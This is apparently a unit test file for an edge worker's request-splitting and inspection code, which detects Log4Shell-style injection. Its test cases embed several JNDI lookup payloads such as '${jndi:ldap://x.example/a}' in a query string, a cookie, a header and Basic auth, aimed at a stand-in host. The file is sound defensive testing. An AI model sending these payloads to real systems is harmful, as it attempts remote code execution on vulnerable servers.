// Unit tests of worker/src/parts.js, the pure request splitting the edge
// worker runs before inspection (no workerd needed: Web-standard objects only).
import test from 'node:test';
import assert from 'node:assert/strict';
import path from 'node:path';
import { ROOT, loadWasmInNode } from './lib/common.mjs';

const parts = await import(path.join(ROOT, 'worker/src/parts.js'));

test('requestUrl slices path and query exactly as URL parses them', () => {
  const urls = [
    'http://app.test/',
    'http://app.test/a/b?x=1&y=2',
    'https://user:p%40ss@app.test:8443//double//slash?q=%24%7Bjndi%7D',
    'http://app.test/trailing?',
    'http://app.test/p%7B%7D?a=${x}',
    'http://app.test/with#frag?x',
    'http://[::1]:8787/v6?z',
  ];
  for (const href of urls) {
    const u = new URL(href);
    const got = parts.requestUrl(u.href);
    assert.deepEqual(got, { href: u.href, pathname: u.pathname, search: u.search }, href);
  }
});

test('the container prefilter keeps exactly the parts inspectAll would keep', async () => {
  // headParts skips a query string or cookie header without `$`/`%` whole;
  // the parts it returns must be the ones every-part splitting would leave
  // after inspectAll's per-part test, and the verdict the same.
  const wasm = await loadWasmInNode();
  const codes = Object.fromEntries(parts.CONTEXTS.map((c) => [c, wasm.inspectContextCode(c)]));
  const cases = [
    ['http://app.test/plain?a=1&b=two', { cookie: 'a=1; b=2', 'user-agent': 'curl/8' }],
    ['http://app.test/q?a=%24%7Bjndi:ldap://x.example/a%7D', { cookie: 'a=1' }],
    ['http://app.test/c', { cookie: 'sid=abc; x=%24%7Bjndi:dns://x.example%7D' }],
    ['http://app.test/h', { 'x-api-version': '${jndi:ldap://x.example/a}' }],
    ['http://app.test/b', { authorization: `Basic ${btoa('${jndi:ldap://x.example/a}:pw')}` }],
    ['http://app.test/b2', { authorization: `Basic ${btoa('alice:secret')}` }],
  ];
  for (const [href, h] of cases) {
    const url = parts.requestUrl(href);
    const headers = new Headers(h);
    const all = parts.headParts('GET', url, headers, () => true);
    const kept = parts.headParts('GET', url, headers);
    const viaAll = parts.inspectAll(wasm, codes, all);
    const viaKept = parts.inspectAll(wasm, codes, kept);
    assert.deepEqual(viaKept, viaAll, href);
    // Every kept part is one of the unfiltered parts.
    const key = (p) => JSON.stringify(p);
    const allKeys = new Set(all.map(key));
    for (const p of kept) assert.ok(allKeys.has(key(p)), `${href}: ${key(p)}`);
  }
  // The clean case builds no part at all; the others each flag one.
  assert.deepEqual(parts.headParts('GET', parts.requestUrl(cases[0][0]), new Headers(cases[0][1])), []);
  const verdicts = cases.map(([href, h]) => parts.inspectAll(wasm, codes, parts.headParts('GET', parts.requestUrl(href), new Headers(h)))?.inspection.verdict ?? 'clean');
  assert.deepEqual(verdicts, ['clean', 'live', 'live', 'live', 'live', 'clean']);
});
